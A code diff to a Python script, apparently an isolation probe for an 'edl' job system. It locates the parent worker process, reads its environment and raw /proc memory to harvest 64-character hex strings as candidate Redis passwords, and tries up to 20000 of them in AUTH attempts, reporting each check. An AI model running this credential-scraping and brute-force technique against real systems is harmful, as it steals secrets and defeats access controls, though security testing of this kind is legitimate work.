@@ -28,15 +28,19 @@ def ppid_of(pid):
     return int(st[st.rindex(")") + 2:].split()[1]) if ")" in st else 0
 
 
-# The processes above the program: its reaper, then the worker.
+# The processes above the program, up to its worker (`edl worker`; a
+# reaper may sit between them).
 chain = []
 pid = os.getpid()
-for _ in range(2):
+worker = 0
+for _ in range(3):
     pid = ppid_of(pid)
     if pid <= 1:
         break
     chain.append(pid)
-worker = chain[-1] if chain else 0
+    if " worker " in read_proc(pid, "cmdline"):
+        worker = pid
+        break
 texts = {}
 for p in chain:
     for what in ("cmdline", "environ"):
@@ -121,7 +125,7 @@ report("default-user-empty-password", not isinstance(r, Exception), str(r))
 # (possible only where the program may read it: root).
 user = re.search(r"EDL_REDIS_USER=(\S+)", texts.get("%d/environ" % worker, ""))
 user = user.group(1) if user else "edl-job-" + own
-cands = []
+cands, seen = [], set()
 try:
     with open("/proc/%d/maps" % worker) as maps, open("/proc/%d/mem" % worker, "rb") as mem:
         for line in maps:
@@ -136,15 +140,20 @@ try:
                 chunk = mem.read(hi - lo)
             except (OSError, ValueError, OverflowError):
                 continue
-            for m in re.finditer(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])", chunk):
-                if m.group(0) not in cands:
-                    cands.append(m.group(0))
+            # Go strings are not delimited in memory: try every 64-char
+            # window of a hex run (runs are short and rare).
+            for m in re.finditer(rb"[0-9a-f]{64,256}", chunk):
+                run = m.group(0)
+                for i in range(len(run) - 63):
+                    if run[i:i + 64] not in seen:
+                        seen.add(run[i:i + 64])
+                        cands.append(run[i:i + 64])
     report("worker-memory", True, "%d candidate passwords" % len(cands))
 except OSError as e:
     report("worker-memory", False, e.strerror)
 logged = None
-for p in cands[:500]:
-    c = Conn()
+c = Conn()
+for p in cands[:20000]:
     if c.cmd("AUTH", user, p) == "OK":
         logged = c
         break
